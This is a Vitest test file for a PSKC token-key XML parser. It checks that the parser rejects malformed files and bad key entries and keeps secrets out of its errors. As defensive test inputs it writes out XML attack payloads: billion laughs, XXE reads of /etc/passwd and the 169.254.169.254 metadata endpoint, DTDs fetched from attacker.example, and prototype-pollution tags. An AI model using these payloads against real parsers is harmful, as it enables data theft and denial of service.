import { describe, expect, it } from 'vitest';
import { MAX_TOKENS_PER_FILE } from './imported-token.js';
import { parsePskc } from './parse-pskc.js';
import { buildPskc, testSecret } from './testing/build-pskc.js';

const GOOD = buildPskc([{ serial: 'S1' }]);
const errorsOf = (xml: string, options = {}) => {
  const result = parsePskc(xml, options);
  expect(result.ok).toBe(false);
  return result.ok ? [] : result.errors;
};

describe('parsePskc refuses DOCTYPE and entity attacks before parsing', () => {
  const cases: Array<[string, string]> = [
    [
      'billion laughs',
      `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><KeyContainer Version="1.0"><KeyPackage><DeviceInfo><SerialNo>&lol3;</SerialNo></DeviceInfo></KeyPackage></KeyContainer>`,
    ],
    [
      'XXE file',
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><KeyContainer Version="1.0"><KeyPackage><DeviceInfo><SerialNo>&xxe;</SerialNo></DeviceInfo></KeyPackage></KeyContainer>`,
    ],
    ['XXE http', `<!DOCTYPE x [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><KeyContainer Version="1.0">&xxe;</KeyContainer>`],
    ['parameter entity', `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]><KeyContainer Version="1.0"/>`],
    ['external DTD only', `<!DOCTYPE KeyContainer SYSTEM "http://attacker.example/pskc.dtd"><KeyContainer Version="1.0"/>`],
    ['public DTD', `<!DOCTYPE KeyContainer PUBLIC "-//X//Y" "pskc.dtd"><KeyContainer Version="1.0"/>`],
    ['DOCTYPE after a comment', `<?xml version="1.0"?><!-- hello --><!DOCTYPE x [<!ENTITY a "b">]><KeyContainer Version="1.0"/>`],
    ['lower-case doctype', `<!doctype x [<!ENTITY a "b">]><KeyContainer Version="1.0"/>`],
    ['ENTITY without DOCTYPE', `<KeyContainer Version="1.0"><!ENTITY a "b"></KeyContainer>`],
    ['DOCTYPE inside the root', `<KeyContainer Version="1.0"><!DOCTYPE x><KeyPackage/></KeyContainer>`],
    ['quadratic blowup', `<!DOCTYPE x [<!ENTITY a "${'A'.repeat(10_000)}">]><KeyContainer Version="1.0">${'&a;'.repeat(1000)}</KeyContainer>`],
    ['ELEMENT declaration', `<!ELEMENT KeyContainer ANY><KeyContainer Version="1.0"/>`],
  ];

  it.each(cases)('%s', (_name, xml) => {
    const errors = errorsOf(xml);
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatch(/DOCTYPE or other markup declaration/);
  });

  it('leaves undeclared entity references as text instead of expanding them', () => {
    const errors = errorsOf(buildPskc([{ serial: '&amp;x' }]));
    expect(errors.join('\n')).toMatch(/KeyPackage 1 \(serial &amp;x\): the serial must be/);
  });
});

describe('parsePskc refuses broken XML with one clear error', () => {
  it.each([
    ['empty', ''],
    ['only whitespace', '   \n  '],
    ['not XML', 'serial,secret\n1,abc'],
    ['JSON', '{"KeyContainer": {}}'],
    ['truncated', GOOD.slice(0, GOOD.length / 2)],
    ['mismatched tags', '<KeyContainer Version="1.0"><KeyPackage></KeyContainer></KeyPackage>'],
    ['unclosed root', '<KeyContainer Version="1.0"><KeyPackage></KeyPackage>'],
    ['unquoted attribute', '<KeyContainer Version=1.0></KeyContainer>'],
    ['raw < in text', '<KeyContainer Version="1.0"><KeyPackage>a < b</KeyPackage></KeyContainer>'],
    ['duplicate attribute', '<KeyContainer Version="1.0" Version="1.0"></KeyContainer>'],
    ['binary garbage', '\u0000\u0001\u0002<KeyContainer/>'],
    ['text after the root', `${GOOD}trailing`],
  ])('%s', (_name, xml) => {
    const errors = errorsOf(xml);
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatch(/not well-formed XML|not acceptable XML|root element/);
  });

  it.each([
    ['two roots', '<KeyContainer Version="1.0"/><KeyContainer Version="1.0"/>'],
    ['another root', '<Other/>'],
    ['root and sibling', '<KeyContainer Version="1.0"/><Other/>'],
  ])('refuses %s', (_name, xml) => {
    expect(errorsOf(xml)).toEqual([expect.stringMatching(/root element must be one <KeyContainer>/)]);
  });

  it('refuses tag names that would pollute prototypes', () => {
    expect(errorsOf('<KeyContainer Version="1.0"><__proto__><polluted>1</polluted></__proto__></KeyContainer>')).toEqual([expect.stringMatching(/not acceptable XML/)]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('refuses nesting deeper than any PSKC file needs', () => {
    const deep = `<KeyContainer Version="1.0">${'<a>'.repeat(500)}${'</a>'.repeat(500)}</KeyContainer>`;
    expect(errorsOf(deep)).toEqual([expect.stringMatching(/not acceptable XML/)]);
  });

  it.each([
    ['no version', GOOD.replace(' Version="1.0"', ''), /Version "" is not supported/],
    ['another version', GOOD.replace('Version="1.0"', 'Version="2.0"'), /Version "2.0" is not supported/],
    ['no KeyPackage', GOOD.replace(/<KeyPackage>[\s\S]*<\/KeyPackage>/, ''), /holds no <KeyPackage>/],
  ])('%s', (_name, xml, expected) => {
    expect(errorsOf(xml)).toEqual([expect.stringMatching(expected)]);
  });

  it('refuses files over 5 MB and over 10,000 keys without reading their entries', () => {
    expect(errorsOf(GOOD + ' '.repeat(5 * 1024 * 1024))).toEqual(['the file is larger than 5 MB']);
    const many = buildPskc(Array.from({ length: MAX_TOKENS_PER_FILE + 1 }, (_, i) => ({ serial: `S${i}` })));
    expect(errorsOf(many)).toEqual([`the file holds ${MAX_TOKENS_PER_FILE + 1} keys; at most ${MAX_TOKENS_PER_FILE} are imported at once`]);
    // A 5 MB document is parsed here: on a loaded machine that takes longer than the default 5 s.
  }, 60_000);
});

describe('parsePskc refuses bad entries, naming each, and returns nothing', () => {
  const OCRA = 'urn:ietf:params:xml:ns:keyprov:pskc:ocra';
  it.each([
    ['OCRA', { algorithm: OCRA }, `algorithm "${OCRA}" is not supported (only HOTP and TOTP are)`],
    ['a look-alike of the PIN algorithm', { algorithm: 'urn:ietf:params:xml:ns:keyprov:pskc:PIN' }, 'is not supported (only HOTP and TOTP are)'],
    ['a draft form of the PIN algorithm', { algorithm: 'urn:ietf:params:xml:ns:keyprov:pskc#pin' }, 'is not supported (only HOTP and TOTP are)'],
    ['SecurID', { algorithm: 'http://www.rsa.com/rsalabs/otps/schemas/2005/09/otps-wst#SecurID-AES' }, 'is not supported'],
    ['a look-alike', { algorithm: 'urn:ietf:params:xml:ns:keyprov:pskc:HOTP' }, 'is not supported'],
    ['a prototype key', { algorithm: 'constructor' }, 'algorithm "constructor" is not supported'],
    ['another prototype key', { algorithm: '__proto__' }, 'algorithm "__proto__" is not supported'],
    ['a prototype key as the suite', { suite: 'constructor' }, '<Suite> "constructor" is not supported'],
    ['a draft form', { algorithm: 'urn:ietf:params:xml:ns:keyprov:pskc#hotp' }, 'is not supported'],
    ['no algorithm', { rawKey: `<Key><Data><Secret><PlainValue>${testSecret(1).toString('base64')}</PlainValue></Secret></Data></Key>` }, 'algorithm "" is not supported'],
    ['no secret', { rawData: '<Counter><PlainValue>0</PlainValue></Counter>' }, 'has no secret (<Data><Secret>)'],
    ['an empty secret', { rawData: '<Secret></Secret>' }, 'has no secret (<PlainValue> or <EncryptedValue>)'],
    ['a secret not base64', { rawData: '<Secret><PlainValue>not*base64</PlainValue></Secret>' }, "the secret's <PlainValue> is not base64"],
    [
      'two secrets',
      { rawData: `<Secret><PlainValue>${testSecret(1).toString('base64')}</PlainValue></Secret><Secret><PlainValue>${testSecret(2).toString('base64')}</PlainValue></Secret>` },
      '<Secret> appears 2 times',
    ],
    ['a short secret', { secret: Buffer.alloc(10, 1) }, 'the secret is 80 bits; at least 128 are required'],
    ['a long secret', { secret: Buffer.alloc(65, 1) }, 'at most 512 are accepted'],
    ['7 digits', { digits: '7' }, '<ResponseFormat> Length "7" is not supported (6 or 8 digits)'],
    ['hex encoding', { encoding: 'HEXADECIMAL' }, 'Encoding "HEXADECIMAL" is not supported'],
    ['a negative counter', { counter: '-1' }, '<Counter> "-1" is not a non-negative whole number'],
    ['a non-numeric counter', { counter: '1e3' }, 'is not a non-negative whole number'],
    ['an enormous counter', { counter: '99999999999999999999' }, 'is not a non-negative whole number'],
    ['a server PIN', { pinMode: 'Prepend' }, 'needs a PIN checked by the server (PINUsageMode "Prepend")'],
    ['an unknown suite', { suite: 'HMAC-MD5' }, '<Suite> "HMAC-MD5" is not supported'],
    ['a non-ASCII spelling of a suite', { suite: 'HMAC-ſHA1' }, '<Suite> "HMAC-ſHA1" is not supported'],
  ])('%s', (_name, pkg, expected) => {
    const xml = buildPskc([{ serial: 'GOOD1' }, { serial: 'BAD-1', ...pkg }, { serial: 'GOOD2', secret: testSecret(2) }]);
    const errors = errorsOf(xml);
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatch(/^KeyPackage 2 \(serial BAD-1\): /);
    expect(errors[0]).toContain(expected);
  });

  const TOTP = 'urn:ietf:params:xml:ns:keyprov:pskc:totp';
  it.each([
    ['a 45 s step', { timeInterval: '45' }, '<TimeInterval> is 45 seconds; 30 or 60 are supported'],
    ['T0 other than 0', { time: '1000' }, '<Time> (T0) is 1000; only 0'],
    ['a drift that is not a number', { timeDrift: 'x' }, '<TimeDrift> "x" is not a whole number'],
  ])('TOTP with %s', (_name, pkg, expected) => {
    expect(errorsOf(buildPskc([{ serial: 'T1', algorithm: TOTP, ...pkg }]))).toEqual([expect.stringContaining(`KeyPackage 1 (serial T1): ${expected}`)]);
  });

  it('names missing and malformed serials, escaping what it prints', () => {
    const errors = errorsOf(buildPskc([{}, { serial: 'has space' }, { serial: 'a\u001b[31mred' }, { serial: 'x'.repeat(100) }]));
    expect(errors[0]).toBe('KeyPackage 1: has no <DeviceInfo><SerialNo>');
    expect(errors[1]).toMatch(/^KeyPackage 2 \(serial has space\): the serial must be/);
    expect(errors[2]).toMatch(/^KeyPackage 3 \(serial a\\u001b\[31mred\): the serial must be/);
    expect(errors[3]).toMatch(/^KeyPackage 4 \(serial x{64}…\): the serial must be/);
    expect(errors.join('')).not.toContain('\u001b');
  });

  it('refuses duplicate serials in the file, naming both places and saying that the serial is the identity', () => {
    const xml = buildPskc([{ serial: 'A' }, { serial: 'B' }, { serial: 'A', secret: testSecret(3) }, { serial: 'B' }]);
    expect(errorsOf(xml)).toEqual([
      'KeyPackage 3 (serial A): serial A appears again (first in KeyPackage 1 (serial A)), with no <Manufacturer>: Gatehouse identifies a hardware token by its serial and keeps one key per token; leave only the KeyPackage of the key the token uses now',
      'KeyPackage 4 (serial B): serial B appears again (first in KeyPackage 2 (serial B)), with no <Manufacturer>: Gatehouse identifies a hardware token by its serial and keeps one key per token; leave only the KeyPackage of the key the token uses now',
    ]);
  });

  it('imports nothing from 5 good entries and 1 bad one, and reports every bad entry at once', () => {
    const good = Array.from({ length: 5 }, (_, i) => ({ serial: `G${i}`, secret: testSecret(i) }));
    expect(errorsOf(buildPskc([...good, { serial: 'BAD', digits: '9' }]))).toEqual(['KeyPackage 6 (serial BAD): <ResponseFormat> Length "9" is not supported (6 or 8 digits)']);
    const two = errorsOf(buildPskc([{ serial: 'X1', digits: '9' }, ...good, { serial: 'X2', secret: Buffer.alloc(8) }]));
    expect(two).toHaveLength(2);
    expect(two[0]).toMatch(/^KeyPackage 1 \(serial X1\)/);
    expect(two[1]).toMatch(/^KeyPackage 7 \(serial X2\)/);
  });

  it('refuses an encrypted entry in an otherwise plain file when no key is given', () => {
    const psk = Buffer.alloc(16, 3);
    const encrypted = buildPskc([{ serial: 'E1' }], { kind: 'pre-shared-key', key: psk });
    const keyPackage = /<KeyPackage>[\s\S]*<\/KeyPackage>/.exec(encrypted)![0];
    const mixed = GOOD.replace('</KeyContainer>', `${keyPackage}</KeyContainer>`);
    expect(parsePskc(mixed)).toMatchObject({ ok: false, needs: 'pre-shared-key' });
  });

  it('never quotes a secret in its errors', () => {
    const secret = testSecret(9);
    const errors = errorsOf(
      buildPskc([
        { serial: 'S', secret, digits: '5' },
        { serial: 'S', secret },
      ]),
    );
    const text = errors.join('\n');
    for (const form of [secret.toString('base64'), secret.toString('hex'), secret.toString('latin1')]) expect(text).not.toContain(form);
  });
});
